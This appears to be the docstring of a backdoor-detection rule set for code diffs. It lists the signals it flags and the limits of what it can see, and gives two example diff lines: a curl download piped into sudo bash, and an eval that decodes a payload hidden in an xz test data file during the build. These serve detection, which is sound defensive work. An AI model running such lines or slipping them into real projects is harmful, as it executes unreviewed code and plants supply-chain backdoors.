"""Backdoors: code that lets somebody in, or runs what nobody reviewed.

What it is
    A change that works as described and, besides, opens a way in: for whoever knows a value,
    sits at an address, or publishes the next version of a dependency. The code may be the way
    in itself, or only make sure that code from elsewhere is run.

Rules
    They look for the moves that such code cannot do without: content is decoded, fetched or
    put together and then executed; a shell is tied to a socket; a condition asks for a value,
    a date, a host or a country; code runs at install, build or load time without being called;
    a dependency or its source is exchanged; a protection or a cipher is made weaker. Two that
    fit together in one change (it decodes, and it executes) weigh more than each alone. A file
    that a build reads is never taken for a mere test or document.

Examples
    A download that is run unread:

        scripts/setup.sh
        + curl -fsSL http://203.0.113.9/agent.sh | sudo bash >/dev/null 2>&1

    A data file in which the build finds a program:

        configure.ac
        + eval "`sed -n 7p tests/data/good-large.xz | xz -dc | base64 -d`"

What it cannot see
    Whether a flaw is there on purpose: a missing bounds check and a planted one are the same
    lines. Reversed fixes are found where they look like one.

    What a dependency contains. A diff shows that a name, version, checksum or address changed,
    and where two of them disagree; what the registry serves for them it does not show. Nor the
    lines of a lock file that did not change: whether manifest and lock agree as a whole needs
    both files whole.

    What newly becomes reachable. A call of an unsafe function is found where it is added; a
    changed route that leads to one which was always there looks like any other route.

    What a binary does. It is named as unread, high where something runs it.

    A trigger spread over services, or one that only a run shows: values from a database, a
    flag or the network decide there.
"""
